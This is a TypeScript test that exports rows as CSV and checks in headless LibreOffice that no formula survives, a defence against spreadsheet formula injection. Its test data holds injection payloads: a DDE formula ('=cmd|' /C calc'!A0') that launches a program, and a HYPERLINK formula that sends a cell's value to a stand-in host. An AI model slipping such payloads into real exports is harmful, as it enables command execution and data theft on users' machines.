import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { startExportServer } from '../testing/export-server';
import { EXPORT_LIMITS } from './export-limits';

/** `npm test` installs it and sets the path. Without LibreOffice these tests fail. */
const LIBREOFFICE = process.env.LIBREOFFICE_PATH ?? 'soffice';

/** Commas, quotes, UTF-8, from the first line on, with numbers detected and formulas evaluated. */
const CSV_FILTER = 'Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,0,true';

const folder = mkdtempSync(join(tmpdir(), 'sf-spreadsheet-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** Opens CSV files by their names, and returns their sheets as XML. */
async function openInLibreOffice<Name extends string>(
  files: Readonly<Record<Name, Buffer | string>>,
): Promise<Record<Name, string>> {
  const pathOf = (name: string) => join(folder, name);
  for (const [name, csv] of Object.entries<Buffer | string>(files))
    writeFileSync(pathOf(`${name}.csv`), csv);
  await promisify(execFile)(LIBREOFFICE, [
    '--headless',
    `-env:UserInstallation=${pathToFileURL(pathOf('profile')).href}`,
    `--infilter=${CSV_FILTER}`,
    ...['--convert-to', 'fods', '--outdir', folder],
    ...Object.keys(files).map((name) => pathOf(`${name}.csv`)),
  ]);
  // The same keys as those of `files`.
  return Object.fromEntries(
    Object.keys(files).map((name) => [name, readFileSync(pathOf(`${name}.fods`), 'utf8')]),
  ) as Record<Name, string>;
}

const ENTITIES: Readonly<Record<string, string>> = {
  '&lt;': '<',
  '&gt;': '>',
  '&quot;': '"',
  '&apos;': "'",
  '&amp;': '&',
};

/** The texts of a sheet's cells by rows. */
const readTexts = (sheet: string) =>
  [...sheet.matchAll(/<table:table-row[^>]*>(.*?)<\/table:table-row>/gs)].map(([, row = '']) =>
    [...row.matchAll(/<table:table-cell[^>]*?(?:\/>|>(.*?)<\/table:table-cell>)/gs)].map(
      ([, cell = '']) =>
        [...cell.matchAll(/<text:p>(.*?)<\/text:p>/gs)]
          .map(([, line = '']) =>
            line
              .replaceAll('<text:s/>', ' ')
              .replaceAll('<text:tab/>', '\t')
              .replaceAll(/&\w+;/g, (entity) => ENTITIES[entity] ?? entity),
          )
          .join('\n'),
    ),
  );

const TEXTS = [
  '=1+1',
  '=HYPERLINK("https://x.test/?"&A1;"click")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  ' =1+1',
  '\t=1+1',
  '"=1+1"',
  '＝1+1',
  'first\n=1+1',
  "=cmd|' /C calc'!A0",
  'plain, "quoted", naïve ✓ 表',
  'two\nlines',
];

test('an export opens in LibreOffice without a formula, with its texts and numbers intact', async () => {
  const rows = TEXTS.map((text, index) => ({ id: `id-${index}`, text, number: -index - 1.5 }));
  const server = await startExportServer<(typeof rows)[number]>(EXPORT_LIMITS, {
    noun: 'rows',
    columns: { id: (row) => row.id, text: (row) => row.text, number: (row) => row.number },
    list: async () => ({ rows, nextCursor: null }),
  });
  const csv = Buffer.from(await (await fetch(server.url)).arrayBuffer());
  await server.close();
  // A formula that is not escaped shows that LibreOffice would run them.
  const { sheet, raw } = await openInLibreOffice({ sheet: csv, raw: 'text\r\n=1+1\r\n' });
  expect(raw).toContain('table:formula');
  expect(sheet).not.toContain('table:formula');
  const [header, ...cells] = readTexts(sheet).filter(([id = '']) => id.startsWith('id'));
  expect(header?.slice(0, 3)).toEqual(['id', 'text', 'number']);
  expect(cells.map(([, text]) => text?.replace(/^'/, ''))).toEqual(TEXTS);
  expect(sheet.match(/office:value="-\d+\.5"/g)).toHaveLength(TEXTS.length);
}, 60_000);
